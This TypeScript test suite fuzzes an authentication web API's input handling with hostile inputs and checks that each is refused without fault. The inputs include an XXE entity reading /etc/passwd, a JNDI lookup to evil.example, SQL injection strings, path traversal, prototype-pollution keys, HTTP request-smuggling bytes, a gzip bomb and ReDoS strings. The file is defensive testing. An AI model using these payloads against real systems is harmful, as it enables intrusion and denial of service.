import { gzipSync } from 'node:zlib';
import { type Answer, type Call, freshAddress } from './support/client';
import { linkTokenIn, waitForMail } from './support/mailbox';
import { type Operation, operationsOf, pathTo } from './support/operations';
import { isAccepted, newcomer, newPerson, signedIn, signIn, signUp } from './support/people';
import { expectProblem } from './support/problems';
import { sendRaw } from './support/raw';
import { expectSane } from './support/sane';
import { needing, useTarget } from './support/target';

const target = useTarget();
const attack = needing('admin', 'addresses');

const JSON_TYPE = { 'content-type': 'application/json' };
const LIMIT = 100 * 1024;

const isOfAdmins = ({ path }: Operation): boolean =>
  path.startsWith('/api/v1/users') && !path.startsWith('/api/v1/users/me');

/** An admin's where admins are asked for, else somebody's who may be lost by it. */
async function tokenFor(operation: Operation): Promise<string | undefined> {
  if (!operation.isGuarded) return undefined;
  if (isOfAdmins(operation)) return target.adminToken();
  return (await signedIn(target)).tokens.access_token;
}

async function operationsWithBody(): Promise<Operation[]> {
  const all = (await operationsOf(target)).filter(({ fields }) => fields !== null);
  expect(all.length).toBeGreaterThan(15);
  return all;
}

/** Sends each of these to every route that takes JSON. */
async function sendToAll(calls: (operation: Operation) => readonly Call[]): Promise<Answer[]> {
  const answers: Answer[] = [];
  for (const operation of await operationsWithBody()) {
    const { name, method, path } = operation;
    const token = await tokenFor(operation);
    for (const call of calls(operation)) {
      const answer = await target.client().call(method, pathTo(path), { token, ...call });
      const raw = call.raw ?? JSON.stringify(call.json ?? null);
      expectSane(answer, [name, call.headers, String(raw).slice(0, 100)]);
      answers.push(answer);
    }
  }
  return answers;
}

const asJson = (raw: string | Uint8Array): Call => ({ raw, headers: JSON_TYPE });
const codesOf = (answers: readonly Answer[]): string[] =>
  [...new Set(answers.map(({ status, body }) => `${status} ${body?.code}`))].toSorted();

const deep = (open: string, close: string, times: number): string =>
  open.repeat(times) + close.repeat(times);

describe('input: bodies', () => {
  attack('CWE-20: what is no JSON is refused as that', async () => {
    const texts = [
      '{',
      '}',
      '{"a":',
      '{"a":1,}',
      '{a:1}',
      "{'a':1}",
      '[1,]',
      'nul',
      'NaN',
      'undefined',
      '"',
      '"\\x"',
      '"\\u12"',
      '{"a":1}{"b":2}',
      '{"a":01}',
      '// comment\n{}',
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
      '\u0000',
    ];
    const bytes = [Buffer.from([0xff, 0xfe, 0x00]), Buffer.from([0x7b, 0xff, 0x7d])];
    expect(codesOf(await sendToAll(() => [...texts, ...bytes].map(asJson)))).toEqual([
      '400 malformed_json',
    ]);
  });

  attack('CWE-20: JSON that is no object is refused as that', async () => {
    const texts = ['null', 'true', '0', '-1', '""', '"x"', '[]', '[[]]', '[{}]', '1e999'];
    const answers = await sendToAll(() => texts.slice(1).map(asJson));
    expect(codesOf(answers)).toEqual(['422 validation_failed']);
  });

  attack('CWE-674: JSON that is nested without end is refused before it is read', async () => {
    const texts = [
      deep('[', ']', 50_000),
      deep('{"a":', '}', 15_000).replace('}', '1}'),
      '['.repeat(99_000),
      '{"a":'.repeat(19_000),
      `{"username":${deep('[', ']', 40)}}`,
      `{"a":"${'['.repeat(100)}","b":${deep('{"a":[', ']}', 100)}}`,
    ];
    expect(codesOf(await sendToAll(() => texts.map(asJson)))).toEqual(['400 malformed_request']);
  });

  attack('CWE-400: bodies out of proportion are refused, and none is unpacked', async () => {
    const huge = `{"a":"${'x'.repeat(LIMIT)}"}`;
    const answers = await sendToAll(() => [
      asJson(huge),
      { raw: huge, headers: { 'content-type': 'text/plain' } },
    ]);
    expect(codesOf(answers).every((code) => /^(413|415) /.test(code))).toBe(true);
    const many = Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`f${n}`, n]));
    expect(codesOf(await sendToAll(() => [{ json: many }]))).toEqual(['422 validation_failed']);
    const bomb = gzipSync(Buffer.alloc(10_000_000, ' '));
    for (const encoding of ['gzip', 'deflate', 'br', 'identity, gzip', 'x-gzip'])
      await sendToAll(() => [
        { raw: bomb, headers: { ...JSON_TYPE, 'content-encoding': encoding } },
      ]);
  });

  attack('CWE-20: every field is refused by name whatever it is but text', async () => {
    const values = [7, -1, 1e308, 0.1, [], ['x'], [null], {}, { $ne: '' }, { length: 9 }];
    for (const operation of await operationsWithBody()) {
      const token = await tokenFor(operation);
      const { name, method, path, fields } = operation;
      for (const field of fields!)
        for (const value of values) {
          const json = { [field]: value };
          const answer = await target.client().call(method, pathTo(path), { token, json });
          expectSane(answer, [name, json]);
          expect([name, answer.body.code]).toEqual([name, 'validation_failed']);
          const pointers = (answer.body.errors as { pointer: string }[]).map(
            ({ pointer }) => pointer.split('/')[1],
          );
          expect([name, json, pointers]).toEqual([name, json, expect.arrayContaining([field])]);
        }
    }
  });

  attack('CWE-158: NUL, lone surrogates and ninety kilobytes in every field', async () => {
    const texts = ['\0', 'a\0b', '\ud800', 'a\udfff', '\ud800\ud800', 'x'.repeat(90_000)];
    const answers = await sendToAll(({ fields }) =>
      fields!.flatMap((field) => texts.map((text) => ({ json: { [field]: text } }))),
    );
    expect(codesOf(answers)).toEqual(['422 validation_failed']);
  });

  attack('CWE-20: odd text in every field makes no fault', async () => {
    const texts = [
      '\r\n',
      '\u202e',
      '\u2028',
      '\ufeff',
      '\uffff',
      '😀'.repeat(100),
      'Z\u0351\u036b\u0343'.repeat(200),
      'ﷺ'.repeat(200),
      'İ'.repeat(100),
      '%00%0d%0a',
      '%s%s%n%p',
      '${jndi:ldap://evil.example/x}',
      '{{7*7}}',
      '../../../../etc/passwd',
      'file:///etc/passwd',
      'javascript:alert(1)',
      '1; DROP TABLE users',
      '9'.repeat(400),
      '-0',
      '1e1000',
      '0x1F',
      '2026-13-45T99:99:99Z',
      '+275760-09-13T00:00:00.001Z',
      'constructor',
      '__proto__',
      'hasOwnProperty',
    ];
    await sendToAll(({ fields }) => [
      ...texts.map((text) => ({
        json: Object.fromEntries(fields!.map((field) => [field, text])),
      })),
      ...texts.map((text) => ({ json: { [text]: text } })),
    ]);
  });

  attack('RFC 8259 §4: of a name given twice no half-checked value gets in', async () => {
    const { tokens } = await signedIn(target);
    const { access_token: token } = tokens;
    for (const raw of [
      '{"bio":"first","bio":"second","bio":7}',
      '{"bio":7,"bio":["x"]}',
      '{"bio":"x","role":"admin","bio":"y"}',
      '{"bio":"x","b\\u0069o":{"a":1}}',
    ]) {
      const answer = await target.client().call('PATCH', 'users/me', { ...asJson(raw), token });
      expectSane(answer, raw);
      expect([raw, answer.status]).toEqual([raw, answer.status === 400 ? 400 : 422]);
    }
    expect((await target.client().get('users/me', { token })).body.bio).toBeNull();
  });
});

describe('input: content types', () => {
  const NOT_JSON = [
    'text/plain',
    'text/plain; application/json',
    'text/json',
    'application/xml',
    'text/xml',
    'text/html',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'multipart/form-data',
    'application/octet-stream',
    'application/jsonp',
    'application/json5',
    'application/ld+json',
    'application/vnd.api+json',
    'application/json/x',
    'application/jsonx',
    'json',
    '*/*',
    ';',
    'a'.repeat(4000),
  ];

  attack('CVE-2025-32442, CVE-2026-25223: no content type leads around validation', async () => {
    const spelled = [
      'application/json',
      'application/json; charset=utf-8',
      'application/json;charset=utf-16',
      'application/json; charset=x; boundary=y',
      'application/JSON',
      'Application/Json ;',
      'application/json\t; a',
      'application/json\t',
      'application/json ;text/plain',
      'application/json;;;',
      'application/json, text/plain',
      'application/json\u00a0',
    ];
    for (const type of [...spelled, ...NOT_JSON]) {
      const person = { ...newcomer(), role: 'admin' };
      const answer = await target.client().call('POST', 'auth/register', {
        raw: JSON.stringify(person),
        headers: { 'content-type': type },
      });
      expectSane(answer, type);
      expect([type, answer.status]).toEqual([type, answer.status === 415 ? 415 : 422]);
    }
  });

  attack('CWE-20: routes that take JSON take nothing else', async () => {
    const answers = await sendToAll(() =>
      NOT_JSON.map((type) => ({ raw: '{"a":"b"}', headers: { 'content-type': type } })),
    );
    expect(codesOf(answers)).toEqual(['415 unsupported_media_type']);
    await sendToAll(() => [
      { raw: '{}', headers: { 'content-type': ['application/json', 'text/plain'] } },
      { raw: '{}', headers: { 'content-type': [] } },
    ]);
  });

  const FORMS = ['/api/v1/auth/token', '/api/v1/auth/login/form', '/auth/token'];

  attack(
    'RFC 6749 §3.2: forms are taken as forms, each parameter once, and nothing else',
    async () => {
      const person = await newPerson(target);
      const { username, password } = person;
      const good = new URLSearchParams({ username, password }).toString();
      for (const path of FORMS) {
        const call = (raw: string, type = 'application/x-www-form-urlencoded') =>
          target.client().call('POST', path, { raw, headers: { 'content-type': type } });
        expect((await call(good)).status).toBe(200);
        for (const raw of [
          `${good}&username=x`,
          `username=x&${good}`,
          `${good}&grant_type=password&grant_type=password`,
          `${good}&__proto__=x`,
          `${good}&scope=a&scope=b`,
          'a=b&'.repeat(20_000),
        ]) {
          const answer = await call(raw);
          expectSane(answer, raw);
          expect([raw, answer.status]).toEqual([raw, 400]);
          expect(answer.body.error).toBe('invalid_request');
        }
        for (const raw of [
          '',
          '&&&===',
          '%',
          '%zz=%ff',
          'username',
          'username=%00&password=%00',
          'username[]=x&password[]=x',
          'username[$ne]=&password[$ne]=',
          'user.name=x',
          `${'a[b]'.repeat(10_000)}=c`,
          '\0\0\0',
          `grant_type=client_credentials&${good}`,
          `grant_type=PASSWORD&${good}`,
          `grant_type=__proto__&${good}`,
        ]) {
          const answer = await call(raw);
          expectSane(answer, raw.slice(0, 50));
          expect([raw.slice(0, 50), answer.status]).toEqual([raw.slice(0, 50), 422]);
          expect(answer.body.error).toMatch(/^(invalid_request|unsupported_grant_type)$/);
        }
        for (const type of ['application/json', ...NOT_JSON].filter(
          (name) => !/urlencoded/.test(name),
        )) {
          const answer = await call(JSON.stringify({ username, password }), type);
          expectSane(answer, type);
          expect([type, answer.status]).toEqual([type, 415]);
        }
      }
    },
  );
});

/** Text that would mean something in SQL. */
const SQL = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  "' UNION SELECT password_hash FROM users --",
  "x' AND (SELECT pg_sleep(100)) IS NULL --",
  '\\',
  "\\' OR 1=1 --",
  '%',
  '_',
  '%%%',
  '$1',
  '$$',
  ':q',
  '?',
  '@>',
  "'||(SELECT 1)||'",
  '"',
  '`',
  '{x}',
  '*',
];

describe('input: queries', () => {
  attack('CWE-89: what is searched for is text, and finds what holds it', async () => {
    const token = await target.adminToken();
    const sets = [...SQL, "bobby'); DROP TABLE users; --", '100%_sure\\'];
    for (const q of sets) {
      const query = `users?q=${encodeURIComponent(q)}`;
      const answer = await target.client().get(query, { token });
      expectSane(answer, q);
      expect([q, answer.body, answer.headers.get('x-total-count')]).toEqual([q, [], '0']);
    }
    const person = await newPerson(target);
    const full_name = "O'Neill %_\\ xyz";
    await target.client().patch(`users/${person.id}`, { full_name }, { token });
    for (const q of ["O'Neill", '%_\\ xyz', full_name]) {
      const { body } = await target.client().get(`users?q=${encodeURIComponent(q)}`, { token });
      expect([q, body.map(({ id }: { id: string }) => id)]).toEqual([q, [person.id]]);
    }
  });

  attack('CWE-89: no filter and no order is anything but one that is named', async () => {
    const token = await target.adminToken();
    const lists: Readonly<Record<string, readonly string[]>> = {
      users: ['sort', 'role', 'is_active', 'skip', 'limit', 'cursor'],
      'audit-events': ['user', 'action', 'since', 'until', 'limit', 'cursor'],
      mails: ['status', 'limit', 'cursor'],
    };
    const odd = [
      'created_at; DROP TABLE users',
      'created_at DESC NULLS LAST',
      'password_hash',
      '-password_hash',
      'u.email',
      '(SELECT 1)',
      'CASE WHEN 1=1 THEN id ELSE username END',
      '1',
      'constructor',
      '__proto__',
      'toString',
    ];
    const isGood = (name: string, value: string): boolean =>
      value === '1' && ['skip', 'limit'].includes(name);
    for (const [list, names] of Object.entries(lists))
      for (const name of names)
        for (const value of [...SQL, ...odd].filter((one) => !isGood(name, one))) {
          const query = `${list}?${name}=${encodeURIComponent(value)}`;
          const answer = await target.client().get(query, { token });
          expectSane(answer, query);
          expect([query, answer.status]).toEqual([query, 422]);
          expect(answer.body.errors[0].pointer).toBe(`/${name}`);
        }
  });

  attack('CWE-89: a cursor that was written by hand is no key to anything', async () => {
    const token = await target.adminToken();
    const lists = [
      'users?limit=1',
      'users?limit=1&sort=username',
      'users?limit=1&sort=-last_login_at',
      'audit-events?limit=1',
      'mails?limit=1',
    ];
    await target.client().post('auth/password/reset/request', { email: newcomer().email });
    await Promise.all([newPerson(target), newPerson(target)]);
    await Promise.all([signUp(target), signUp(target)]);
    for (const list of lists) {
      const { headers } = await target.client().get(list, { token });
      const [, url = ''] = /<([^>]+)>/.exec(headers.get('link') ?? '') ?? [];
      const cursor = new URL(url).searchParams.get('cursor')!;
      const [digest, ...position] = JSON.parse(Buffer.from(cursor, 'base64url').toString());
      const values = [null, '', 0, [], {}, '\0', 'x'.repeat(90), '-infinity', 'now', ...SQL];
      const positions = values.flatMap((value) => [
        [value],
        ...position.map((_: unknown, at: number) => position.with(at, value)),
        [...position, value],
      ]);
      for (const parts of [[], ...positions]) {
        const written = Buffer.from(JSON.stringify([digest, ...parts])).toString('base64url');
        const query = `${list}&cursor=${encodeURIComponent(written)}`;
        const answer = await target.client().get(query, { token });
        expectSane(answer, [list, parts]);
        if (JSON.stringify(parts) !== JSON.stringify(position)) expectEndOrRefusal(answer, parts);
      }
      for (const odd of [
        'x',
        '=',
        'e30',
        'W10',
        'bnVsbA',
        cursor.slice(1),
        `${cursor}=`,
        `${cursor}A`,
      ]) {
        const answer = await target.client().get(`${list}&cursor=${odd}`, { token });
        expectProblem(answer, 422, 'validation_failed');
      }
    }
  });

  attack('CWE-190: no number is too large, too small or too odd', async () => {
    const token = await target.adminToken();
    const odd = [
      '-1',
      '1e3',
      '1e999',
      '0x10',
      '010e',
      ' 1',
      '+1',
      '1.5',
      'NaN',
      'Infinity',
      '１',
      '9'.repeat(20),
      '9'.repeat(400),
      '-0',
      '1,000',
      '१',
    ];
    for (const path of [
      'users?limit=',
      'users?skip=',
      'audit-events?limit=',
      'mails?limit=',
      'users/me/activity?limit=',
    ])
      for (const number of [...odd, '10001', '99999999999']) {
        const answer = await target.client().get(`${path}${encodeURIComponent(number)}`, { token });
        expectSane(answer, path + number);
        expect([path, number, answer.status]).toEqual([path, number, 422]);
      }
    for (const time of [
      '0',
      '-1',
      '99999-01-01T00:00:00Z',
      '2026-02-30T00:00:00Z',
      '+275760-09-13T00:00:00.001Z',
      'infinity',
      'now()',
      '0000-00-00',
      '2026-01-01',
    ]) {
      const answer = await target
        .client()
        .get(`audit-events?since=${encodeURIComponent(time)}`, { token });
      expectSane(answer, time);
      expect([time, answer.status]).toEqual([time, 422]);
    }
  });

  attack('CWE-235: parameters that are many, repeated, nested or unreadable', async () => {
    const token = await target.adminToken();
    const { parameters } = (await operationsOf(target)).find(
      ({ name }) => name === 'GET /api/v1/users',
    )!;
    const odd = [
      'a=b&'.repeat(3000),
      Array.from({ length: 2000 }, (_, n) => `p${n}=x`).join('&'),
      '__proto__=x',
      '__proto__[role]=admin',
      'constructor=x',
      'constructor[prototype][role]=admin',
      '%00=x',
      'a%00=x',
      '[]=x',
      '=x',
      'a[b][c][d]=x',
      ...parameters.flatMap((name) => [
        `${name}=1&${name}=2`,
        `${name}[]=1`,
        `${name}[$gt]=`,
        `${name}=%00`,
        `${name}=%ff`,
        `${name}=%`,
        `${name}=%ED%A0%80`,
      ]),
    ];
    for (const path of ['users', 'audit-events', 'mails', 'users/me/activity'])
      for (const query of odd) {
        const answer = await target.client().get(`${path}?${query}`, { token });
        expectSane(answer, `${path}?${query.slice(0, 60)}`);
        // What no UTF-8 is becomes replacement characters, for which one may search.
        if (query.startsWith('q=')) continue;
        expect([path, query.slice(0, 60), answer.status]).toEqual([path, query.slice(0, 60), 422]);
      }
    const isHere = ({ method, path }: Operation): boolean =>
      method === 'GET' && !/metrics|oauth|verify-email/.test(path);
    for (const { path } of (await operationsOf(target)).filter(isHere))
      for (const query of odd.slice(0, 10)) {
        const answer = await target.client().get(`${pathTo(path)}?${query}`);
        expectSane(answer, `${path}?${query.slice(0, 60)}`);
      }
  });
});

/** The list goes on from wherever that is, if it is a place at all. */
function expectEndOrRefusal({ status, body }: Answer, what: unknown): void {
  const isEnd = status === 200 && Array.isArray(body);
  expect([what, isEnd || status]).toEqual([what, isEnd ? true : 422]);
}

describe('input: headers and paths', () => {
  attack('CWE-113: odd headers make no fault and are not repeated', async () => {
    const { tokens } = await signedIn(target);
    const odd = [
      '',
      ' ',
      '\t',
      '"',
      ';',
      '=',
      '%00',
      'é'.repeat(10),
      'x'.repeat(8000),
      '\u00ff\u00fe',
      '${jndi:ldap://x}',
      "' OR 1=1 --",
      '<script>alert(1)</script>',
      '../../etc/passwd',
    ];
    const names = [
      'user-agent',
      'accept',
      'accept-language',
      'accept-encoding',
      'x-request-id',
      'x-forwarded-for',
      'x-forwarded-proto',
      'x-forwarded-host',
      'x-csrf-token',
      'if-none-match',
      'if-modified-since',
      'range',
      'expect-ct',
      'origin',
      'referer',
      'traceparent',
      'tracestate',
      'content-language',
      'cookie',
      'forwarded',
      'via',
      'prefer',
    ];
    for (const name of names)
      for (const value of odd) {
        const headers = { [name]: value };
        const { access_token: token } = tokens;
        const answer = await target.client().get('users/me', { token, headers });
        expectSane(answer, headers);
        expect([headers, answer.status]).toEqual([headers, 200]);
        if (value.length > 2) {
          const told = JSON.stringify([...answer.headers]);
          expect([name, told.includes(value)]).toEqual([name, false]);
        }
        expectSane(
          await target.client().post('auth/login', { username: 'x', password: 'x' }, { headers }),
          headers,
        );
      }
  });

  attack('CWE-20: odd cookies make no fault', async () => {
    const names = [
      'gatehouse_access',
      '__Host-gatehouse_access',
      '__Secure-gatehouse_refresh',
      '__Host-gatehouse_csrf',
      '__Host-gatehouse_oauth_x',
    ];
    const values = [
      '',
      'x',
      '%',
      '%00',
      '"x"',
      'a=b=c',
      '..',
      'e30.e30.e30',
      'é',
      'x'.repeat(7000),
      ',',
      '{"a":1}',
      'j:{"$gt":""}',
      's:x.y',
    ];
    const cookies = [
      ...names.flatMap((name) => values.map((value) => `${name}=${value}`)),
      '=',
      ';',
      '===;;;',
      'a'.repeat(8000),
      '; '.repeat(4000),
      '__proto__=x',
      'constructor=x',
    ];
    for (const cookie of cookies) {
      const headers = { cookie };
      expectProblem(
        await target.client().get('users/me', { headers }),
        401,
        cookie === ''
          ? 'unauthenticated'
          : (await target.client().get('users/me', { headers })).body.code,
      );
      for (const [method, path] of [
        ['POST', 'auth/refresh'],
        ['POST', 'auth/logout'],
        ['GET', 'auth/csrf'],
        ['POST', 'auth/logout-all'],
      ] as const) {
        const answer = await target.client().call(method, path, { headers });
        expectSane(answer, [path, cookie.slice(0, 60)]);
        expect([path, cookie.slice(0, 60), answer.status >= 400]).toEqual([
          path,
          cookie.slice(0, 60),
          true,
        ]);
      }
    }
  });

  attack('CWE-20: paths that are no paths, and ids that are none', async () => {
    const token = await target.adminToken();
    const odd = [
      '%',
      '%f',
      '%zz',
      '%ff',
      '%c0%ae',
      '%ed%a0%80',
      '%e0%80%80',
      '%00',
      '%0d%0aSet-Cookie:x=y',
      '..%2f..%2f',
      '%252e',
      'x'.repeat(90),
      'x'.repeat(8000),
      'a/'.repeat(2000),
      '[object%20Object]',
      '{id}',
      ':id',
      '*',
      '(.*)',
      '%F0%9F%98%80',
      '-1',
      '0',
      '1e5',
      '9'.repeat(300),
    ];
    const places = [
      'users/',
      'users/me/sessions/',
      'users/me/link/',
      'mails/',
      'auth/oauth/',
      'auth/link/',
      '/auth/oauth/callback/',
      'auth/',
      '/',
      '/api/',
      '/pages/',
      '/dev/mailbox/messages/',
      '/docs/',
      'audit-events/',
    ];
    for (const place of places)
      for (const id of odd)
        for (const method of ['GET', 'DELETE']) {
          const answer = await target.client().call(method, place + id, { token });
          expectSane(answer, `${method} ${place}${id.slice(0, 60)}`);
          expect(answer.status).toBeGreaterThanOrEqual(400);
        }
  });

  /** Bytes, for which no client is wild enough. */
  const BYTES: Readonly<Record<string, string>> = {
    'a URL of 20 KiB': `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
    'headers of 20 KiB': `GET / HTTP/1.1\r\nHost: x\r\nX: ${'a'.repeat(20_000)}\r\n\r\n`,
    'thousands of headers': `GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${'A: b\r\n'.repeat(3000)}\r\n`,
    'no HTTP at all': '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
    'an unknown version': 'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
    'a NUL in the URL': 'GET /\0 HTTP/1.1\r\nHost: x\r\n\r\n',
    'a NUL in a header': 'GET / HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n',
    'a header without a name': 'GET / HTTP/1.1\r\nHost: x\r\n: y\r\n\r\n',
    'a folded header': 'GET / HTTP/1.1\r\nHost: x\r\nX: a\r\n b\r\n\r\n',
    'a space before the colon': 'GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n',
    'two lengths':
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}',
    'a length and chunks (RFC 9112 §6.1)':
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/v1/health HTTP/1.1\r\nHost: x\r\n\r\n',
    'a length below zero':
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n{}',
    'a length that is no number':
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 0x2\r\n\r\n{}',
    'a length beyond all bounds': `POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: ${'9'.repeat(30)}\r\n\r\n{}`,
    'garbage for chunks':
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n',
    'a chunk beyond all bounds':
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n',
    'an unknown transfer encoding':
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: xchunked\r\n\r\n{}',
    'two hosts (RFC 9112 §3.2)':
      'GET /api/v1/health/live HTTP/1.1\r\nHost: x\r\nHost: y\r\nConnection: close\r\n\r\n',
  };
  /** What a lenient reader may answer. */
  const FINE = ['thousands of headers'];

  needing('settings').each(Object.keys(BYTES))(
    'CWE-444: bytes with %s are refused',
    async (kind) => {
      const answer = await sendRaw(target.origin, Buffer.from(BYTES[kind]!, 'latin1'));
      expectSane(answer, kind);
      if (!FINE.includes(kind)) expectProblem(answer, 400, 'malformed_request');
      expect(answer.text).not.toContain('HTTP/1.1 200');
      expect((await target.client().get('health/live')).status).toBe(200);
    },
  );

  needing('settings')('CWE-444: chunks that add up to too much are refused', async () => {
    const chunk = `ffff\r\n${' '.repeat(0xffff)}\r\n`;
    const head = [
      'POST /api/v1/auth/login HTTP/1.1',
      'Host: x',
      'Connection: close',
      'Content-Type: application/json',
      `X-Forwarded-For: ${freshAddress()}`,
      'Transfer-Encoding: chunked',
    ];
    const answer = await sendRaw(
      target.origin,
      `${head.join('\r\n')}\r\n\r\n${chunk.repeat(4)}0\r\n\r\n`,
    );
    expectProblem(answer, 413, 'body_too_large');
  });
});

describe('input: nobody is not the first of all', () => {
  const NOBODY = [
    '%20',
    '%00',
    '%09',
    'null',
    'undefined',
    'NaN',
    '0',
    '-1',
    'true',
    '*',
    '%25',
    '[object%20Object]',
    '{}',
    '[]',
    "'%20OR%20'1'='1",
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
    '00000000-0000-0000-0000-00000000000',
    '%7Bid%7D',
  ];

  attack('CWE-754: an id that is nobody’s names nobody', async () => {
    const token = await target.adminToken();
    const routes: readonly (readonly [
      method: string,
      path: (id: string) => string,
      code: string,
    ])[] = [
      ['GET', (id) => `users/${id}`, 'user_not_found'],
      ['PATCH', (id) => `users/${id}`, 'user_not_found'],
      ['DELETE', (id) => `users/${id}`, 'user_not_found'],
      ['GET', (id) => `users/${id}/sessions`, 'user_not_found'],
      ['POST', (id) => `users/${id}/logout-all`, 'user_not_found'],
      ['POST', (id) => `users/${id}/password/reset`, 'user_not_found'],
      ['POST', (id) => `users/${id}/email/verification`, 'user_not_found'],
      ['GET', (id) => `users/${id}/subscription`, 'user_not_found'],
      ['PUT', (id) => `users/${id}/subscription`, 'user_not_found'],
      ['DELETE', (id) => `users/me/sessions/${id}`, 'session_not_found'],
      ['POST', (id) => `mails/${id}/retry`, 'mail_not_found'],
    ];
    for (const [method, path, code] of routes)
      for (const id of NOBODY) {
        const json = ['PATCH', 'PUT'].includes(method) ? {} : undefined;
        const answer = await target.client().call(method, path(id), { token, json });
        expect([method, path(id), answer.status, answer.body?.code]).toEqual([
          method,
          path(id),
          404,
          code,
        ]);
      }
    for (const path of [
      'users/',
      'users//',
      'users//sessions',
      'users/me/sessions/',
      'mails//retry',
    ])
      for (const method of ['GET', 'DELETE', 'PATCH', 'POST'])
        expectProblem(await target.client().call(method, path, { token }), 404, 'not_found');
    expect(await isAccepted(target, token)).toBe(true);
  });

  attack('CWE-754: a filter left blank is refused, and is not no filter', async () => {
    const token = await target.adminToken();
    for (const [list, names] of Object.entries({
      users: ['q', 'role', 'is_active', 'sort', 'cursor', 'limit', 'skip'],
      'audit-events': ['user', 'action', 'since', 'until', 'cursor', 'limit'],
      mails: ['status', 'cursor', 'limit'],
    }))
      for (const name of names)
        for (const blank of ['', '%20', '%00', ...(name === 'q' ? [] : ['null', 'undefined'])]) {
          const answer = await target.client().get(`${list}?${name}=${blank}`, { token });
          expect([name, blank, answer.status]).toEqual([name, blank, 422]);
          expect(answer.body.errors[0].pointer).toBe(`/${name}`);
        }
  });

  attack('CWE-754: a name that is blank or a keyword signs nobody in', async () => {
    const { password } = target.admin;
    for (const username of ['', ' ', '\t', '\u00a0', '\u2003', '\u200b', ' \u2060 '])
      expectProblem(
        await target.client().post('auth/login', { username, password }),
        422,
        'validation_failed',
      );
    for (const username of [
      'null',
      'undefined',
      '%',
      '_',
      '*',
      '0',
      '@',
      ' @ ',
      "' OR '1'='1",
      'admin',
    ])
      expectProblem(
        await target.client().post('auth/login', { username, password }),
        401,
        'invalid_credentials',
      );
  });

  needing(
    'admin',
    'mailbox',
    'addresses',
  )('CWE-754: the links and tokens of somebody who is gone are nobody’s', async () => {
    const admin = await target.adminToken();
    const before = (await target.client().get('users/me', { token: admin })).body;
    const unverified = await signUp(target);
    const verify = linkTokenIn(await waitForMail(target, unverified.email, /^Confirm your e-mail/));
    const { person, tokens } = await signedIn(target);
    const client = target.client();
    const { access_token: token, refresh_token } = tokens;
    const new_email = newcomer().email;
    await client.post('auth/email/change', { new_email, password: person.password }, { token });
    const change = linkTokenIn(await waitForMail(target, new_email, /^Confirm your new/));
    await client.post('auth/password/reset/request', { email: person.email });
    const reset = linkTokenIn(await waitForMail(target, person.email, /^Reset/));
    for (const { id } of [unverified, person])
      expect((await client.delete(`users/${id}`, { token: admin })).status).toBe(204);

    const password = { new_password: 'a better battery' };
    for (const [path, body] of [
      ['auth/email/verification/confirm', { token: verify }],
      ['auth/email/change/confirm', { token: change }],
      ['auth/password/reset/confirm', { token: reset, ...password }],
      ['/auth/reset-password', { token: reset, ...password }],
    ] as const)
      expectProblem(await client.post(path, body), 400, 'invalid_token');
    for (const path of ['auth/refresh', '/auth/refresh'])
      expectProblem(await client.post(path, { refresh_token }), 401, 'invalid_refresh_token');
    expect(await isAccepted(target, token)).toBe(false);
    const login = { username: person.username, password: person.password };
    expectProblem(await client.post('auth/login', login), 401, 'invalid_credentials');
    const after = (await client.get('users/me', { token: admin })).body;
    expect(after).toEqual(before);
  });
});

describe('input: text that is hard to match', () => {
  const HARD = [
    `${'a'.repeat(40)}"`,
    `${'a'.repeat(80_000)}!`,
    'a@'.repeat(30_000),
    `${'a.'.repeat(120)}@x`,
    `a@${'a.'.repeat(40_000)}`,
    `a@${'a-'.repeat(40_000)}`,
    `a@${'1.'.repeat(40_000)}x`,
    `"${'\\ '.repeat(20_000)}@x.example`,
    `${' '.repeat(80_000)}x`,
    `x${' '.repeat(80_000)}x`,
    `${'\u00a0'.repeat(30_000)}x`,
    `${'\t\n'.repeat(30_000)}!`,
    `${'-'.repeat(80_000)}!`,
    `${'_.'.repeat(40_000)}@`,
    `http://${'a.'.repeat(30_000)}!`,
    `http://${'a:'.repeat(30_000)}@x`,
    `http://x/${'%'.repeat(60_000)}`,
    `http://[${':'.repeat(40_000)}`,
    `${'0'.repeat(40_000)}T`,
    `2026-01-01T00:00:00.${'0'.repeat(60_000)}x`,
    'e\u0301'.repeat(20_000),
    'ﷺ'.repeat(20_000),
    '\u{1d15e}'.repeat(15_000),
  ];

  attack('CWE-1333: is answered in every field', async () => {
    await sendToAll(({ fields }) =>
      HARD.map((text) => ({ json: Object.fromEntries(fields!.map((field) => [field, text])) })),
    );
  });

  attack('CWE-1333: is answered in searches, tokens and cookies', async () => {
    const token = await target.adminToken();
    for (const text of HARD) {
      const short = text.slice(0, 3000);
      const encoded = encodeURIComponent(short).slice(0, 9000);
      for (const path of [
        `users?q=${encoded}`,
        `users?cursor=${encoded}`,
        `audit-events?since=${encoded}`,
      ])
        expectSane(await target.client().get(path, { token }), path.slice(0, 60));
